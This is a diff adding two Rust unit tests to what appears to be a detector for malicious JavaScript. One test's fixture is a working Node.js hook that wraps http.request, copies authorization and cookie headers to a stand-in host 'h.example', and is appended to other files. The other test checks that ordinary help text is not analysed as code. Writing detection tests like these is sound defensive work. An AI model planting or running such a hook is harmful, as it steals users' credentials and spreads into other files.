@@ -327,3 +327,22 @@ fn xor_decoder_functions_over_base64_fold_with_an_enum_key() {
         f.derived
     );
 }
+
+#[test]
+fn code_in_a_string_literal_with_escapes_is_analysed() {
+    // A hook kept in a string to be appended to other files: the `\\n` escape inside must not
+    // hide it from the analysis.
+    let src = r#"const HOOK = ';(function(){try{var h=require("http"),q=h.request;function w(o){try{var a=o&&o.headers||{},t=a.authorization||a.cookie;if(t){var r=q({host:"h.example",path:"/c",method:"POST"});r.end(String(o.host)+"\\n"+t)}}catch(e){}}h.request=function(o){w(o);return q.apply(this,arguments)}}catch(e){}})();'
+fs.writeFileSync(file, src + HOOK)"#;
+    let f = facts(src);
+    assert!(f.assigns.iter().any(|(p, _)| p == "http.request"), "{:?}", f.assigns);
+    assert!(has_module(&f, "http"));
+}
+
+#[test]
+fn prose_with_escapes_is_not_analysed_as_code() {
+    let src = r#"const HELP = 'Usage: tool [options]\n  --require <module>  preload a module (like node -r)\n  --port <n>  the port to listen on, default 8080\n  --verbose  print every request';"#;
+    let f = facts(src);
+    assert!(f.modules.is_empty(), "{:?}", f.modules);
+    assert!(f.assigns.is_empty());
+}
